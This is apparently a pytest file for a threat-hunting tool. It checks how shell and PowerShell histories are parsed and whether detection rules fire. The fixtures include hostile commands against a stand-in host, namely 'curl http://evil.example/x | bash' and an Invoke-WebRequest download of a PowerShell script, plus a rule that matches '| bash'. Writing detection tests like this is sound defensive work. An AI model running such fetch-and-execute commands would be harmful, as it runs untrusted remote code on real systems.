"""What people typed, with its times and its owner where the file or its place says them."""

from __future__ import annotations

from pathlib import Path

import pytest

from indicia.hunt.run import hunt
from tests.hunt.logs.test_formats import read, rows_of

STARS = "*" * 22
TRANSCRIPT = f"""{STARS}
Windows PowerShell transcript start
Start time: 20230101101112
Username: CORP\\eve
RunAs User: CORP\\eve
Machine: WS01 (Microsoft Windows NT 10.0.19041.0)
Process ID: 4711
{STARS}
PS C:\\> whoami
corp\\eve
{STARS}
Command start time: 20230101101205
{STARS}
PS C:\\Users\\eve> Invoke-WebRequest http://evil.example/a.ps1
{STARS}
Windows PowerShell transcript end
End time: 20230101101300
{STARS}
"""


@pytest.mark.parametrize(
    ("name", "text", "format", "events"),
    [
        (
            "home/eve/.bash_history",
            "id\n#1700000000\nwhoami\n#1700000005\ncat a\ncat b\n",
            "shell-history",
            ["- eve id", "22:13:20 eve whoami", "22:13:25 eve cat a", "22:13:25 eve cat b"],
        ),
        ("root/.zsh_history", ": 1700000000:0;id; pwd\n", "shell-history", ["22:13:20 root id; pwd"]),
        ("fish_history", "- cmd: id\n  when: 1700000000\n- cmd: pwd\n", "shell-history", ["22:13:20  id", "-  pwd"]),
        ("saved.txt", "#+1700000000\nid\n", "shell-history", ["22:13:20  id"]),
        ("C/Users/eve/x/ConsoleHost_history.txt", "whoami /all\r\n", "powershell-history", ["- eve whoami /all"]),
        (
            "t.txt",
            TRANSCRIPT,
            "powershell-history",
            [
                "10:11:12 CORP\\eve whoami",
                "10:11:12 CORP\\eve corp\\eve",
                "10:12:05 CORP\\eve Invoke-WebRequest http://evil.example/a.ps1",
            ],
        ),
    ],
)
def test_histories(name: str, text: str, format: str, events: list[str], tmp_path: Path) -> None:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    _, batches, problems = read(path)
    found = [batch.event(row) for batch, row in rows_of(batches)]
    assert not problems and {event.format for event in found} == {format}
    assert [
        f"{event.time.strftime('%H:%M:%S') if event.time else '-'} {event.fields.get('User', '')} "
        f"{event.fields.get('CommandLine') or event.fields['message']}"
        for event in found
    ] == events
    if format == "powershell-history" and "Machine" in text:
        assert {event.host for event in found} == {"WS01"}


def test_rules_on_commands_are_asked(tmp_path: Path) -> None:
    (tmp_path / ".bash_history").write_text("curl http://evil.example/x | bash\n", "utf-8")
    rules = [
        ("{product: linux, category: process_creation}", "{CommandLine|contains: '| bash'}", True),
        ("{product: linux, category: process_creation}", "{Image|endswith: /curl}", False),
        ("{product: linux, category: file_event}", "{CommandLine|contains: curl}", False),
    ]
    for number, (source, selection, fires) in enumerate(rules):
        rule = tmp_path / f"{number}.yml"
        rule.write_text(f"title: t\nlogsource: {source}\ndetection:\n  s: {selection}\n  condition: s\n", "utf-8")
        assert bool(hunt([tmp_path / ".bash_history"], rules=[rule], builtin=False).sightings) is fires
